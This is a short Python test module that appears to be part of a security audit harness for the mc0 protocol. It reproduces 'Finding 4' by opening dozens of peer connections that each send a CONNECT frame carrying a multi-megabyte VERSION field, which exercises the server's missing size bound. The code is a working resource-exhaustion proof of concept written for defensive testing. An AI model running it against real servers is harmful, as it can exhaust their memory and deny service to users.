"""Finding 4, mc0 ``CONNECT`` VERSION kept without a size bound: peers that connect with a
VERSION of megabytes (and no TTL), then close."""

from __future__ import annotations

from .frames import mc0
from .harness import MB, Attacker

__all__ = ["run"]


def run(a: Attacker) -> None:
    peers = a.size(40, 24)
    version = b"v" * a.size(20 * MB, 4 * MB)
    answered = 0
    for i in range(peers):
        sock = a.socket()
        if not a.send(sock, mc0(b"CONNECT", [(b"ID", b"%d" % i), (b"VERSION", version)])):
            break
        if a.recv(sock, 5.0) is not None:
            answered += 1
    a.notes["peers connected"] = answered
